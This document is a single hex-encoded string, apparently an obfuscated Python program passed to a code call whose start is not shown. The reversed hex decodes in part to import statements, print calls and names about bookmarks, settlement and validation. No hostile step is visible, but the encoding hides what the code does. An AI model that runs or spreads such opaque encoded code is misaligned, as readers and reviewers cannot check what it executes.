7020222668247e69627070202020202020202a092225646f6340297c696d6166402b62716d6b6f6f6240296271646024756b6160502861626d616450259e92e02e2d74554355425e256c6974735b7d523b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a09222b62716d6b6f6f6240296271646024756b6160502861626d616450259e92e02e2d74554355425e256c6974735b7d513b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a092925353a222d2228202b20222e6c5228247e69627070202020202020202a0a09222d75636962707f5c61647f647b702072502a3167627168402c61647f645020222668247e6962707020202020202020202020202a09222d75353a272d272b722668247e6962707020202020202020202020202a09222d7d572563696270772b5d6564796b702072502d202d7d57256d616e672b5d6564796b702e2d74554355425e256c6974735b7d5d713b296b7b5d7e4149534e256c6974735b7020222668247e696270702020202020202020202020202020202a0a39247271636f59716c607379646825647162756d657e65602e69602d656479602c2960227f666020202020202020202020202a09222a376e616a6e6162756b402963794228247e6962707020202020202020202020202a0a35637c6560202020202020202a09222e276e6f637f6b60286963716d6021646e6140276e616a6e6162756b4228247e6962707020202020202020202020202a0a337d6564796f5472716360247f6e60266960202020202020202a0a0922256c646e65724024756b616050276e616a6e6162756b40229b9f90f2282275646165686f547e69627070202020202020202a09282e65656273637f5271656c6360202020202020202a0a357e656d6f556c646e65726f5e6960256c696867702020202a05657274502d30257e656d6f556c646e65726f5e69602020202a0a00302d3025636962707f5c61647f64702020202a0d5b502d30247271636f59716c60737964602020202a0d5b502d302d5d656479447e656d6971605b5473796c602a337d6564796f54727163602020202a0928237e656b6f647f5566796473616f5475676e25636e6164737e6948647571402d30237e656b6f64702020202a09756b6f5960716e25636e6164737e6948647571402d3029756b6f596071602020202a0a3928257e656d6f556c646e65726f577f6863702665646a0a056e6f6e402c256e6f6e402e627574756270202020202020202a0928256375716070202020202020202a09222e24696c6166702b61646964702e6168696c69605228247e69627070202020202020202a0a35637c65602020202a09256572745d3c69616475646f5567616b6361607f5e6275747562702c2d5725646f636f597c696d6166672b5d626f54656473656c656378297c696d61666f59726f537567616b6361607f547567602e627574756270202020202020202a047572656372756470297c696d616660296271646024756b61607028696c696d656d602b65747e6570297c696d61666f59726f537567616b6361607f547567602c6967676e6160502320202020202020202a0d51302d20292563696f686368247e696b537b62716d6b6f6f62602d302d626f54656473656c656370202020202020202a0a39237b62716d6b6f6f62682e656c602d3c30292563696f686368247e69602d3c302130246e61602928247967696463796e2563696f6863602669602020202a0a056e6f6e402c256e6f6e402e627574756270202020202020202a0a32203032202d3d302563696f6863602669602020202a0a0922202e3025646f6360297c696d616660227f6d6f6e6028696c696052282475707e69602d302563696f6863602020202a09222d75353a272d272b722668247e696270702020202a0922296c61626d656b40202f88bfe9a682e02e2d74554355425e256c6974735b7d50303b5d7e4149534e256c6974735b7020222668247e696270702020202a092925353a222d2228202b20222e6c5228247e696270702020202a0a0922292d7d5725646f636f597c696d6166672b5d626b78202d7d57256d616e6f597c696d6166672b5d626b702e2d74554355425e256c6974735b7d5d71302b202874696b7b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a0a39237b62716d6b6f6f626825647162756d657e65602e69602d62602c28746960227f66602020202a09222a35646f6340297c696d6166402b62716d6b6f6f62402271647661644228247e696270702020202a0a056e6f6e402c256e6f6e402e627574756270202020202020202a0928256375716070202020202020202a09222e2e61607d69637275647025646f6360297c696d6166602b62716d6b6f6f6260216461602b616469645228247e69627070202020202020202a0a337b62716d6b6f6f6260247f6e602669602020202a0928237b62716d6b6f6f626f5475676e25636e6164737e694b62716d6b6f6f62497c696d6166402d30237b62716d6b6f6f62602020202a002020202a092225646f6340297c696d6166402b62716d6b6f6f6240296271646024756b6160502861626d616450259e92e2282275646165686f547e696270702020202a09282e65656273637f5271656c63602020202a022222202020202a0e29256d616e6f59716c60737964602c2c69616475646f5567616b6361607820256c607574702e616b696c61626d65676e656d402020202a0e28696c6960796460276e61697024756b6160702c6961647564602e616b696c61626d65676e656d602e61646025646f6360297c696d6166602b62716d6b6f6f6260227164766164602e616b6c69607d616e656d402020202a022222202020202a0a39282b62716d6b6f6f626f597c696d61666f5d6f62766f5567616b6361607f547567602665646a0a056e6f6e402c256e6f6e402e627574756270202020202020202a0928256375716070202020202020202a09222e24696c6166702b61646964702e6168696c69605228247e69627070202020202020202a0a35637c65602020202a056e6f6e402c256e6f6e402e62757475627020202020202020202020202a092825637571607020202020202020202020202a09222e2b62716d6b6f6f6260296271646024756b6160702c6961647564602c69626d61676e656d602c616761674228247e6962707020202020202020202020202a0a35637c6560202020202020202a056d616e6f59716c60737964602c2c69616475646f5567616b636160702e62757475627020202020202020202020202a022d7d57256d616e6f5e6f6964707f672b5d626f54656473656c65637b702d202d7d57256d616e6f547e6169627166772b5d626f54656473656c65637b702d202d7d57256d616e6f597c696d6166672b5d626f54656473656c65637b7226602d30256d616e6f59716c607379646020202020202020202020202a0a3c69616475646f5567616b63616070266960202020202020202a00202020202020202a0920202020202020202a0c25637c61664d35686361636f5563757020202020202020202020202a0c2d5725637962707275647e656f5379672b5d626f54656473656c65637020202020202020202020202a002c2d57227564627f672b5d626f54656473656c65637020202020202020202020202a0e616b657d6564796460286164657370276e61697025646f636f547e6169627166702e616b616e65774023202c25646f636f547e61696271667020202020202020202020202a002c2d5725646f636f597c696d6166672b5d626f54656473656c65637020202020202020202020202a002c237e656b6f64702c29756b6f5960716020202020202020202020202a08237c69616475646f5567616b6361607f547567602d302c69616475646f5567616b63616070202020202020202a09222e2e2e24756b6160702c6961647564602c69626d61676e656d4228247e69627070202020202020202a0a0b61656272602020202020202020202020202020202a092225646f636f547e61696271667f5567616b63616072282475676e247e6169627166702d3025646f636f547e6169627166702020202020202020202020202020202a0a3d57256d616e6f547e6169627166772b5d626f54656473656c6563702d3d302922256d616e62282475676e247e61696271667026696020202020202020202020202a0a392d5b502c2223747e61696271667f5567616b63616072282475676e216471646f597c696d6166602e6960247e616962716670227f6660202020202020202a056e6f6e402d3025646f636f547e616962716670202020202020202a0b62716d6b6f6f62602962716460256d616e6f547e6169627166702e616b62716371646275626025646f636f547e61696271667029627163402320202020202020202a0a056e6f6e402c256e6f6e402e62757475627020202020202020202020202a092825637571607020202020202020202020202a09222e2b62716d6b6f6f62602b65747e6570297c696d61666021647164602c69626d61676e656d602c616761674228247e6962707020202020202020202020202a0a316471646f597c696d616660247f6e60266960202020202020202a092d5725637962707275647e656f5379672b5d626f54656473656c6563702c2d5725646f636f597c696d6166672b5d626f54656473656c6563702c237e656b6f64702c29756b6f5960716822367f597c696d61666f547567602d30216471646f597c696d616660202020202020202a05646f636f547e6169627166702e616b657d656e656d602b65747e6570257c6578616460286962656c62756470297c696d61666021647164602c69626d61402320202020202020202a00202020202020202a0d51302d20292563696f686368247e696b537b62716d6b6f6f62602d302d626f54656473656c656370202020202020202a0a39237b62716d6b6f6f62682e656c602d3c30292563696f686368247e69602d3c302130246e61602928247967696463796e2563696f6863602669602020202a0a056e6f6e402c256e6f6e402e627574756270202020202020202a0a32203032202d3d302563696f6863602669602020202a0a0922202e302e616b6861626d61647964602e69676e6960276e61697024756b616070227f6d6f6e6028696c696052282475707e69602d302563696f6863602020202a09222d75353a272d272b722668247e696270702020202a0922296c61626d656b40202f88bfe9a682e02e2d74554355425e256c6974735b7d50303b5d7e4149534e256c6974735b7020222668247e696270702020202a092925353a222d2228202b20222e6c5228247e696270702020202a002020202a09222d7274737f59747964696c61667b7d7d57256d616e6f5e6f6964707f672b5d626b702d202d7d57256d616e6f547e6169627166772b5d626b702d202d7d57256d616e6f597c696d6166672b5d626b702e2d74554355425e256c6974735b7d5d71302b202874696b7b5d7e4149534e256c6974735b7020222668247e69627070202020202020202a02222025637c6560292729747964696c616677282475676e2d626026696022292d792727202c2729747964696c616677282475676e2d626b78202226602d302274737f59747964696c616670202020202020202a0a39237b62716d6b6f6f626825647162756d657e65602e69602d62602c28746960227f66602020202a0a056e6f6e402c256e6f6e402e627574756270202020202020202a0928256375716070202020202020202a09222e2e61607d6963727564702b62716d6b6f6f6260216461602b616469645228247e69627070202020202020202a0a337b62716d6b6f6f6260247f6e602669602020202a0928237b62716d6b6f6f626f5475676e25636e6164737e694b62716d6b6f6f62402d30237b62716d6b6f6f62602020202a09222b62716d6b6f6f6240296271646024756b6160502861626d616450259e92e2282275646165686f547e696270702020202a09282e65656273637f5271656c63602020202a002020202a0928237e656b6f647f5566796473616f5475676e25636e6164737e6948647571402d30237e656b6f64702020202a09756b6f5960716e25636e6164737e6948647571402d3029756b6f596071602020202a022222202020202a0e29256d616e6f59716c60737964602c2c69616475646f5567616b6361607820256c607574702e616b696c61626d65676e656d402020202a0e28696c6960796460276e61697024756b6160702c6961647564602e616b696c61626d65676e656d602e6164602b62716d6b6f6f6260227164766164602e616b6c69607d616e656d402020202a022222202020202a0a39282b62716d6b6f6f626f5d6f62766f5567616b6361607f547567602665646a0a0d656479447e656d6971605024727f607d6960247369646f556079747e207071602d6f62766a05636e6164737e694b62716d6b6f6f62497c696d61664024727f607d69602b62716d6b6f6f626f597c696d61666e256369667275637e207071602d6f62766a05636e6164737e694b62716d6b6f6f624024727f607d69602b62716d6b6f6f626e256369667275637e207071602d6f62766a05636e6164737e69486475714024727f607d6960286475716e256369667275637e207071602d6f62766a056c697473502c2275646165686f547e696270702c2563757160702c2e65656273637f5271656c636024727f607d69602c6964757e23757e656d6e207071602d6f62766a097c696d61666f59726f537567616b6361607f5475676024727f607d69602567616b6361607e23757e656d6e207071602d6f62766a02367f547e656d6971607f537962717f577f68637024727f607d6960237962717e247e65696c636e207071602d6f62766a02367f547e656d69716079647c657d6f577f68637024727f607d696024756c6c6167756e247e65696c636e207071602d6f62766a037c69616475646f5567616b6361607f547567602c2567616b6361607f547567602c22367f597c696d61666f5475676024727f607d69602c6563776e656e247e65696c636e207071602d6f62766a05636e616c61626f547e656d656c647475637024727f607d696025636e616c61626e247e65696c636e207071602d6f62766a0e6f637a6024727f607d696" ));